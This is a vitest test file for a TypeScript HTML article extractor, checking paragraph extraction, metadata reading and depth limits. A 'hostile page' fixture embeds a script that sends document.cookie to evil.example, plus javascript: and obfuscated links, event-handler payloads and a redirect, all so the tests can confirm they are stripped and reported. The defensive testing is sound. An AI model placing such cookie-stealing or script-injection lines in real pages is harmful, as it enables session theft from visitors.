// extractHtmlArticle: the article's paragraphs and metadata out of a saved page, with scripts,
// styles and page furniture left behind and a plain account of what the page tried to do.
import { describe, expect, it } from 'vitest';
import { extractHtmlArticle, MAX_HTML_DEPTH, MAX_HTML_WORK, PageTooComplexError } from './html';

const LONG = 'The inspectors found cracks in the deck and the handrails on both sides of the span. ';

/** A page as a browser saves it: furniture around an <article>. */
function page(head: string, article: string, extraBody = ''): string {
  return `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">${head}</head>
<body>
  <header><a href="/">The Harbour Courier</a><nav><ul><li><a href="/news">News</a></li><li><a href="/sport">Sport</a></li></ul></nav></header>
  <main><article>${article}</article></main>
  <aside class="sidebar"><h3>Most read</h3><ul><li><a href="/x">Something else</a></li></ul></aside>
  <footer><p>© 2026 The Harbour Courier. All rights reserved.</p></footer>
  ${extraBody}
</body></html>`;
}

const paragraphs = (text: string): string[] => text.split('\n\n');

describe('extractHtmlArticle: text', () => {
  it('returns the headline, then one paragraph per block, without the page around the article', () => {
    const html = page(
      '<title>Calderport shuts footbridge</title>',
      `<h1>Calderport shuts footbridge</h1>
       <p>The footbridge   over the
          harbour closed on Monday. ${LONG}</p>
       <h2>What happens next</h2>
       <p>Repairs will take <em>at least</em> <a href="/repairs">six weeks</a>. ${LONG}</p>
       <blockquote><p>“We had no choice,” the engineer said.</p></blockquote>
       <div>A note set in a plain div.</div>`,
    );
    const result = extractHtmlArticle(html, 'bridge.html');
    expect(result.title).toBe('Calderport shuts footbridge');
    expect(paragraphs(result.text)).toEqual([
      'Calderport shuts footbridge',
      `The footbridge over the harbour closed on Monday. ${LONG.trim()}`,
      'What happens next',
      `Repairs will take at least six weeks. ${LONG.trim()}`,
      '“We had no choice,” the engineer said.',
      'A note set in a plain div.',
    ]);
    expect(result.text).not.toMatch(/Most read|All rights reserved|Sport/);
  });

  it('never lets script or style content into the text, on either extraction path', () => {
    const article = `<p>Body text. ${LONG}</p><script>var leaked = "SCRIPT-TEXT";</script>
      <style>p::after { content: "STYLE-TEXT" }</style><noscript>NOSCRIPT-TEXT</noscript>`;
    const viaReadability = extractHtmlArticle(page('<title>T</title><style>.a{}</style>', article), 'a.html');
    // A page Readability rejects (only a footer) is read by blocks from the body instead.
    const viaBody = extractHtmlArticle(`<footer><p>Kept text</p>${article}</footer>`, 'b.html');
    for (const { text } of [viaReadability, viaBody]) {
      expect(text).toContain('Body text.');
      expect(text).not.toMatch(/SCRIPT-TEXT|STYLE-TEXT|NOSCRIPT-TEXT|leaked|content:/);
      expect(text).not.toMatch(/[<>]/);
    }
    expect(paragraphs(viaBody.text)[0]).toBe('Kept text');
  });

  it('decodes character references', () => {
    const html = page(
      '<title>Fish &amp; chips</title>',
      `<p>Prices rose &mdash; &ldquo;sharply&rdquo; &#8212; to &euro;5&nbsp;a portion &#x2014; caf&eacute; owners said &lt;sic&gt;. ${LONG}</p>`,
    );
    const result = extractHtmlArticle(html, 'a.html');
    expect(result.title).toBe('Fish & chips');
    expect(result.text).toContain('Prices rose — “sharply” — to €5\u00a0a portion — café owners said <sic>.');
    expect(result.text).not.toMatch(/&[a-z#0-9]+;/i);
  });

  it('gives each item of nested lists its own paragraph, in reading order', () => {
    const html = page(
      '<title>Lists</title>',
      `<p>The plan has parts. ${LONG}</p>
       <ul>
         <li>Close the bridge
           <ol><li>Fence it off</li><li>Post <b>signs</b></li></ol>
         </li>
         <li>Open a ferry</li>
       </ul>`,
    );
    expect(paragraphs(extractHtmlArticle(html, 'a.html').text).slice(2)).toEqual([
      'Close the bridge',
      'Fence it off',
      'Post signs',
      'Open a ferry',
    ]);
  });

  it('keeps line breaks inside a paragraph (<br>) and the lines of preformatted text', () => {
    const html = page(
      '<title>Poem</title>',
      `<p>First line,<br>second line,<br/>
       third line. ${LONG}</p><pre>  indented
    code</pre>`,
    );
    expect(paragraphs(extractHtmlArticle(html, 'a.html').text).slice(1)).toEqual([
      `First line,\nsecond line,\nthird line. ${LONG.trim()}`,
      '  indented\n    code',
    ]);
  });

  it('reads a fragment with no <html> or <body>, and leaves out hidden elements', () => {
    const result = extractHtmlArticle(
      '<p>Just a fragment &amp; more.</p><p hidden>HIDDEN</p><p style="display: none">ALSO HIDDEN</p><p>Second.</p>',
      'fragment.html',
    );
    expect(result.text).toBe('Just a fragment & more.\n\nSecond.');
    expect(result.title).toBe('fragment.html');
  });

  it('does not repeat the headline when the article already starts with it', () => {
    const html = page('<title>Budget passes</title>', `<h2>Budget passes</h2><p>It passed. ${LONG}</p>`);
    const text = extractHtmlArticle(html, 'a.html').text;
    expect(text.match(/Budget passes/g)).toHaveLength(1);
    expect(text.startsWith('Budget passes\n\nIt passed.')).toBe(true);
  });

  it('yields empty text, not an error, for a page without words', () => {
    expect(extractHtmlArticle('<html><body><img src="a.png"></body></html>', 'a.html')).toEqual({
      title: 'a.html',
      text: '',
      warnings: [],
    });
  });
});

describe('extractHtmlArticle: metadata', () => {
  it('reads og:site_name, the author, article:published_time and <title>', () => {
    const html = page(
      `<title>Council votes to close bridge | The Harbour Courier</title>
       <meta property="og:site_name" content="The Harbour Courier">
       <meta name="author" content="By Ana Ruiz">
       <meta property="article:published_time" content="2026-03-02T09:30:00+01:00">`,
      `<p>The vote was seven to two. ${LONG}</p>`,
    );
    const result = extractHtmlArticle(html, 'a.html');
    expect(result).toMatchObject({
      // The site's name is cut from the end of the title.
      title: 'Council votes to close bridge',
      siteName: 'The Harbour Courier',
      author: 'Ana Ruiz',
      published: '2026-03-02T09:30:00+01:00',
    });
    expect(paragraphs(result.text)[0]).toBe('Council votes to close bridge');
  });

  it('ignores an author that is only a profile URL, and finds a date in <time pubdate>', () => {
    const html = page(
      `<title>A story</title><meta property="article:author" content="https://example.com/staff/ana">`,
      `<p><time pubdate datetime="2026-03-04">4 March</time> The story. ${LONG}</p>`,
    );
    const result = extractHtmlArticle(html, 'a.html');
    expect(result.author).toBeUndefined();
    expect(result.published).toBe('2026-03-04');
  });

  it('leaves out what the page does not state', () => {
    const result = extractHtmlArticle(page('<title>Plain</title>', `<p>Text. ${LONG}</p>`), 'a.html');
    expect(result.siteName).toBeUndefined();
    expect(result.author).toBeUndefined();
    expect(result.published).toBeUndefined();
    expect(result.warnings).toEqual([]);
  });
});

describe('extractHtmlArticle: a hostile page', () => {
  const hostile = page(
    `<title>Harbour report</title>
     <meta http-equiv="refresh" content="0; url=https://evil.example/">
     <link rel="stylesheet" href="https://cdn.evil.example/site.css">
     <link rel="canonical" href="https://example.com/harbour-report">
     <script>document.title = 'PWNED'; fetch('https://evil.example/?c=' + document.cookie);</script>
     <script type="application/ld+json">{"@type": "NewsArticle", "headline": "Harbour report"}</script>`,
    `<h1>Harbour report</h1>
     <p onclick="steal()">The harbour reopened on Friday after a week of repairs. ${LONG}</p>
     <img src="https://tracker.evil.example/pixel.gif" onerror="alert('img')" alt="">
     <img src="local-photo.jpg" alt="">
     <p>Readers can <a href="javascript:alert('link')">download the report</a> or
        <a href=" jav&#x09;ascript:void(0)">print it</a>. ${LONG}</p>
     <iframe src="https://ads.evil.example/frame.html"></iframe>
     <picture><source srcset="//cdn.evil.example/big.webp"><img src="small.jpg" alt=""></picture>`,
    `<script src="https://evil.example/tracker.js"></script>
     <div style="background: url('https://evil.example/bg.png')">Background</div>`,
  );

  it('yields the article as clean text', () => {
    const result = extractHtmlArticle(hostile, 'report.html');
    expect(result.title).toBe('Harbour report');
    expect(paragraphs(result.text)).toEqual([
      'Harbour report',
      `The harbour reopened on Friday after a week of repairs. ${LONG.trim()}`,
      `Readers can download the report or print it. ${LONG.trim()}`,
    ]);
    expect(result.text).not.toMatch(/PWNED|steal|alert|javascript|evil|<|>/);
  });

  it('lists, as plain facts, what the page tried to run or load', () => {
    expect(extractHtmlArticle(hostile, 'report.html').warnings).toEqual([
      // The JSON-LD block is data, not a script, and is not counted.
      '2 scripts removed',
      '2 inline event handlers removed',
      '2 javascript: links removed',
      '1 embedded frame not loaded',
      // Stylesheet, tracking pixel, <source srcset>, CSS background; not the canonical link
      // (never fetched) nor the local images.
      '4 remote resources not loaded',
      '1 automatic redirect ignored',
    ]);
  });
});

describe('extractHtmlArticle: deeply nested pages', { timeout: 30_000 }, () => {
  const nested = (levels: number, inner: string): string =>
    `<html><body>${'<div>'.repeat(levels)}${inner}${'</div>'.repeat(levels)}</body></html>`;

  it('reads a page nested as deep as the cap allows, block by block', () => {
    // html and body are two levels of their own.
    const inner = `<p>${LONG}</p><p>Second paragraph of the deep article.</p>`;
    const article = extractHtmlArticle(nested(MAX_HTML_DEPTH - 3, inner), 'deep.html');
    expect(paragraphs(article.text)).toEqual([LONG.trim(), 'Second paragraph of the deep article.']);
  });

  it('refuses 10,000 levels with a reason instead of overflowing the stack', () => {
    expect(() => extractHtmlArticle(nested(10_000, 'Text.'), 'deep.html')).toThrow(PageTooComplexError);
    expect(() => extractHtmlArticle(nested(10_000, 'Text.'), 'deep.html')).toThrow(
      /^page too complex to read \(nested more than 128 levels deep\)$/,
    );
  });

  it('refuses a shallow page with too many elements to extract', () => {
    const chains = `${'<div>'.repeat(120)}x${'</div>'.repeat(120)}`.repeat(Math.ceil(MAX_HTML_WORK / 7000));
    expect(() => extractHtmlArticle(`<html><body>${chains}</body></html>`, 'wide.html')).toThrow(
      /too many nested elements/,
    );
  });
});
